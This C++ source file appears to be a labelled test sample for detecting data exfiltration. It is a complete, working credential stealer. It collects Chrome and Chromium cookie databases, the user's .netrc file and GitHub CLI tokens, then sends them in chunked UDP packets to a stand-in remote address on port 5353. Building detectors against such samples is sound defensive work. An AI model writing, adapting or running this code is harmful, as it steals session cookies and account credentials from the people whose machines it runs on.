// blind-expect: behavior.exfiltration
// Gathers browser cookie databases and the .netrc file and sends them in UDP datagrams to a remote listener.
#include <algorithm>
#include <arpa/inet.h>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

struct Target {
    const char *label;
    const char *relPath;
};

static const std::vector<Target> kTargets = {
    {"chrome", "/.config/google-chrome/Default/Cookies"},
    {"chromium", "/.config/chromium/Default/Cookies"},
    {"netrc", "/.netrc"},
    {"gh", "/.config/gh/hosts.yml"},
};

static std::string slurp(const std::string &path)
{
    std::ifstream f(path, std::ios::binary);
    if (!f)
        return {};
    return std::string(std::istreambuf_iterator<char>(f), std::istreambuf_iterator<char>());
}

int main()
{
    std::string home = std::getenv("HOME") ? std::getenv("HOME") : "/root";
    std::string bundle;
    for (const auto &t : kTargets) {
        std::string data = slurp(home + t.relPath);
        if (data.empty())
            continue;
        bundle += "==" + std::string(t.label) + " " + std::to_string(data.size()) + "\n";
        bundle += data;
    }
    if (bundle.empty())
        return 0;

    int s = socket(AF_INET, SOCK_DGRAM, 0);
    sockaddr_in dst{};
    dst.sin_family = AF_INET;
    dst.sin_port = htons(5353);
    inet_pton(AF_INET, "203.0.113.200", &dst.sin_addr);
    if (connect(s, reinterpret_cast<sockaddr *>(&dst), sizeof dst) != 0)
        return 1;

    const size_t kChunk = 1200;
    for (size_t off = 0; off < bundle.size(); off += kChunk) {
        size_t len = std::min(kChunk, bundle.size() - off);
        send(s, bundle.data() + off, len, 0);
        usleep(2000);
    }
    close(s);
    return 0;
}
